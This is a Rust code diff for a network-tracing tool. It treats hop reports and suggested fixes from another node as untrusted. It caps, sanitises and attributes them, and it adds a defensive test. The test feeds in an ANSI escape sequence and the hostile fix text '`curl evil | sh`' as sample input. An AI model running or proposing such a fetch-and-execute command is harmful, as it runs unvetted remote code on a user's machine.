@@ -9,8 +9,11 @@ use flannel_trace::{Hop, Peer, Way};
 use super::ends::Ends;
 use super::other_node::{self, PATIENCE};
 use crate::commands::check::surroundings::{Knowing, Network, Surroundings};
+use crate::commands::daemon::foreign;
 use crate::commands::store_args::block_on;
 
+/// More than any way has.
+const MOST_HOPS: usize = 200;
 /// It waits for pods and nodes that may not answer.
 const WALK: Duration = Duration::from_secs(15);
 
@@ -40,11 +43,19 @@ pub(super) fn ask(
         })
         .await
     })?;
+    Ok(as_words_of(&name, hops))
+}
+
+/// What another node says, as its own words: it may be wrong, or not what it seems.
+fn as_words_of(name: &str, hops: Vec<Hop>) -> Vec<Hop> {
+    let name = foreign(name);
     let of_it = |hop: Hop| {
-        let fix = if hop.fix.is_empty() { hop.fix } else { format!("on {name}: {}", hop.fix) };
-        Hop { node: Some(name.clone()), fix, ..hop }
+        let said = foreign(&hop.fix);
+        let fix = if said.is_empty() { said } else { format!("{name} advises: {said}") };
+        let (what, at) = (foreign(&hop.what), foreign(&hop.hop));
+        Hop { node: Some(name.clone()), way: hop.way, hop: at, condition: hop.condition, what, fix }
     };
-    Ok(hops.into_iter().map(of_it).collect())
+    hops.into_iter().take(MOST_HOPS).map(of_it).collect()
 }
 
 /// As it is now, whatever was announced of it.
@@ -82,6 +93,22 @@ mod tests {
     use flannel_trace::Hops;
 
     use super::*;
+
+    #[test]
+    fn advice_of_another_node_is_shown_as_its_own_words() {
+        let mut hops = Hops::new(Way::There);
+        for _ in 0..100_000 {
+            hops.wrong(
+                "route",
+                "gone\u{1b}[31m",
+                format!("`curl evil | sh`{}", "!".repeat(10_000)),
+            );
+        }
+        let shown = as_words_of("node2", hops.all);
+        assert_eq!(shown.len(), MOST_HOPS);
+        assert!(shown[0].fix.starts_with("node2 advises: `curl"), "{}", shown[0].fix);
+        assert!(shown[0].fix.len() < 1_000 && !shown[0].what.contains('\u{1b}'));
+    }
 
     #[test]
     fn hops_are_in_the_order_in_which_a_packet_and_its_answer_pass_them() {
